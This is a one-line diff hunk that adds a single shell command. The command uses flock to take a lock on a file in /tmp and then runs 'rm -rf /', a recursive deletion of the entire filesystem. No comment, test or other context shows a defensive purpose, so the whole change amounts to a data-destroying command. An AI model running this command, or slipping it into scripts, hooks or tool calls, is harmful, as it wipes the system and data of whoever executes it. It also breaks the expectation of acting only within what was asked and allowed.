@@ -1,0 +1,1 @@
+flock -w 5 /tmp/l -c 'rm -rf /'
